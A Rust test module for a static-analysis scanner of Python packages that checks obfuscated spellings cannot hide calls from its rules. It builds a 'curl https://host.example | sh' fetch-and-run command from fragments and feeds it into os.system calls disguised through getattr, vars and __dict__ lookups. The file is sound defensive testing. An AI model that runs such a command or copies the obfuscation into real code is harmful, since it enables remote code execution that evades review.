//! Examples for every rule, and the ways in which a file can be read or lost.

mod bandit;
mod behaviour;
mod files;
mod literals;
mod notebooks;

use std::collections::BTreeSet;

use gate_core::coverage::CoverageClass;
use gate_core::finding::{FileRole, Finding};

use ruff_linter::source_kind::SourceKind;
use ruff_python_ast::PySourceType;

use super::{Survey, parse, read_by, report::Reporter};
use crate::context::FileContext;

/// Findings and coverage of a source with this path and the role that the path tells.
fn scan(path: &str, source: &[u8]) -> (Vec<Finding>, CoverageClass) {
    let context = FileContext { path, role: FileRole::of(path), installed: true };
    let mut findings = Vec::new();
    let class = match path.rsplit_once('.').map(|(_, extension)| extension) {
        Some("ipynb") => super::analyse_notebook(source, &context, &mut findings),
        Some("sh") => {
            crate::scripts::analyse(
                source,
                crate::scripts::Syntax::Posix,
                path.contains(".data/"),
                &context,
                &mut findings,
            );
            CoverageClass::Analysed { analyzer: "scripts".to_owned() }
        }
        Some("pth") => super::analyse_pth(source, &context, &mut findings),
        _ => super::analyse(source, &context, &mut findings),
    };
    (findings, class)
}

/// The rules that a source sets off; it must be readable.
fn rules_of(path: &str, source: &str) -> BTreeSet<String> {
    let (findings, class) = scan(path, source.as_bytes());
    assert!(matches!(class, CoverageClass::Analysed { .. }), "{class:?} for {source}");
    findings.into_iter().map(|finding| finding.rule).collect()
}

/// The parts in one string: attack samples are put together here and never lie in a file.
fn build(parts: &[&str]) -> String {
    parts.concat()
}

/// What a source gives when every reader reads it, whatever its survey says.
fn scan_everything(path: &str, source: &str) -> Vec<Finding> {
    let context = FileContext { path, role: FileRole::of(path), installed: true };
    let mut findings = Vec::new();
    let parsed = parse(source, PySourceType::Python);
    let kind = SourceKind::Python { code: source.to_owned(), is_stub: false };
    let mut reporter = Reporter::new(&context, source, &mut findings);
    let survey = Survey { bandit: true, flow: true, drops: true };
    assert!(read_by(survey, &kind, parsed, PySourceType::Python, &mut reporter));
    findings
}

#[test]
fn a_survey_hides_nothing() {
    let bandit = bandit::FIRES.iter().chain(bandit::SILENT).map(|(_, source)| ("pkg/a.py", (*source).to_owned()));
    let behaviour = behaviour::fires().into_iter().chain(behaviour::silent()).map(|(_, path, source)| (path, source));
    for (path, source) in bandit.chain(behaviour).filter(|(path, _)| path.starts_with("pkg/")) {
        if let (findings, CoverageClass::Analysed { .. }) = scan(path, source.as_bytes()) {
            assert_eq!(findings, scan_everything(path, &source), "{source}");
        }
    }
}

#[test]
fn no_spelling_hides_a_name_from_the_survey() {
    for source in [
        "\u{1d4ee}val(x)",
        "d['p\\x61ssword'] = 'x'",
        "d['pass' 'word'] = 'x'",
        "open('\\x2ftmp/x')",
        "open(f'/tmp/{x}')",
        "q = 'SEL\\x45CT a FROM ' + t + ' '",
        "q = select + ' a from ' + t + ' b'",
        "from builtins import Exception as E\ntry:\n    f()\nexcept E:\n    pass",
        "import os\nvars(os)['system'](@)",
        "import os\nos.__dict__['sys' + 'tem'](@)",
        "import os\ng = getattr\ng(os, 'system')(@)",
        "import os as o\ngetattr(o, 'sys' + 'tem')(@)",
        "from six.moves.urllib.request import Request\nRequest(u)",
        "import numpy.random as r, random\nrandom.random()",
    ] {
        let source = source.replace("@", &build(&["'cu", "rl https://host.example | s", "h'"]));
        let (findings, class) = scan("pkg/a.py", source.as_bytes());
        assert!(matches!(class, CoverageClass::Analysed { .. }), "{source}");
        assert_eq!(findings, scan_everything("pkg/a.py", &source), "{source}");
        assert!(!findings.is_empty(), "{source}");
    }
}

#[test]
fn every_rule_has_an_example_that_fires_and_one_that_stays_silent() {
    let fires: BTreeSet<&str> =
        bandit::FIRES.iter().map(|(id, _)| *id).chain(behaviour::fires().into_iter().map(|case| case.0)).collect();
    let silent: BTreeSet<&str> =
        bandit::SILENT.iter().map(|(id, _)| *id).chain(behaviour::silent().into_iter().map(|case| case.0)).collect();
    for rule in super::rules().unwrap().values() {
        if rule.off.is_none() {
            assert!(fires.contains(rule.id.as_str()), "{} has no example that fires", rule.id);
        }
        assert!(silent.contains(rule.id.as_str()), "{} has no example that stays silent", rule.id);
    }
    for id in fires.iter().chain(&silent) {
        assert!(super::rules().unwrap().contains_key(*id), "{id} is no rule");
    }
}
